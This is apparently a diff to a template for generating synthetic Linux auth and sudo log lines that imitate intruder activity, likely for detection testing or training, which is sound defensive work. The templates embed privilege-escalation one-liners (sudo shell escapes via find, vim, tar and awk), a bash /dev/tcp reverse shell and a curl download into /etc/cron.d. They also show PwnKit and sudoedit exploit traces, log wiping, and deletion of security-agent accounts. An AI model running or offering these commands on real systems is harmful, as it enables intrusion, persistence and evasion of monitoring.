@@ -27,7 +27,6 @@ useradd: failed adding user '@junk@', «data deleted|exit code: 9, already there
 usermod: «change user '«games|nobody|lp|www-data|sync|news|bin»' shell from '/usr/sbin/nologin' to '/bin/bash'|add '«@junk@|www-data|nobody|games»' to group '«sudo|wheel|root|shadow|docker|disk»'|change user '@junk@' UID from '«num:1001:1999»' to '0'|unlock user '«root|games|lp»' password»
 passwd: «pam_unix(passwd:chauthtok): password changed for «root|games|nobody|lp|www-data|daemon»|password for 'root' changed by 'www-data'»
 groupmod: «group changed in /etc/group (group sudo/27, new gid: «num:1000:1999»)|change GID of '@junk@' from '«num:1000:1999»' to '0'»
-userdel: delete user '«@junk@|zabbix|wazuh|ossec|falcon|«admin»»'
 chpasswd: pam_unix(chpasswd:chauthtok): password changed for «root|@junk@|ubuntu|ec2-user|games»
 vipw: «/etc/shadow|/etc/passwd» edited by «www-data|«user»|apache» from /tmp/.«letters:4»
 @@ sshd
@@ -56,7 +55,7 @@ doas: «user» ran command «rc-service «tech» restart|apk upgrade|pkg update�
 sudo: ««user»|www-data|tomcat» : TTY=«unknown|pts/«num:0:9»» ; PWD=«/tmp|/dev/shm|/var/www/html|/home/«user»» ; USER=«root|#-1|#4294967295» ; COMMAND=/usr/bin/«find /var/log -exec /bin/sh -p ;|vim -c :!/bin/sh|tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh|awk BEGIN {system("/bin/sh")}|python3 -c import pty;pty.spawn("/bin/bash")|rsync -e sh -p -c "sh 0<&2 1>&2" 127.0.0.1:/dev/null|env /bin/sh|cat /etc/shadow|tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/.«letters:3»|chmod u+s /bin/«bash|dash|find»|tee -a /etc/sudoers.d/«letters:3»|passwd -d root|journalctl --rotate --vacuum-time=1s|cp /bin/bash /var/tmp/.«letters:4»|openssl s_client -quiet -connect «pub»:«port»|curl -o /etc/cron.d/«letters:4» http://«pub»/«letters:4»»
 sudo: «www-data|apache|nobody|mysql|tomcat|git» : «user NOT in sudoers|command not allowed|1 incorrect password attempt» ; TTY=unknown ; PWD=«/var/www/html/uploads|/tmp|/var/lib/tomcat9/webapps|/dev/shm» ; USER=root ; COMMAND=«/bin/sh|list|/usr/bin/id|validate|/bin/bash -c bash -i >& /dev/tcp/«pub»/«port» 0>&1»
 sudo: «user» : unable to resolve host ; sudoedit /etc/«word» -s '\' «letters:60», segfault of sudoedit in set_cmnd before
-su: «(to root) «www-data|nobody|postgres|tomcat|lp» on «none|pts/«num:0:9»»|FAILED SU (to root) «person» on pts/«num:0:9», «num:4:60»th try|pam_unix(su:session): session opened for user root(uid=0) by (uid=33)»
+su: (to root) «www-data|nobody|postgres|tomcat|lp» on «none|pts/«num:0:9»»
 pkexec: «user»: «The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/«num:0:9»] [CWD=/tmp/.«letters:4»] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=.]|Executing command [USER=root] [TTY=/dev/pts/«num:0:9»] [CWD=/dev/shm] [COMMAND=/bin/bash -p]»
 polkitd: Operator of unix-process FAILED to authenticate to gain authorization for action org.freedesktop.«accounts.user-administration|systemd1.manage-unit-files|policykit.exec» for system-bus-name::1.«num:100:9999» [«dbus-send --system --dest=org.freedesktop.Accounts CreateUser string:@junk@ int32:1|/tmp/.«letters:4»|busctl call of CreateUser, ended by kill»] (owned by unix-user:«www-data|«user»|nobody»)
 @@ schedules
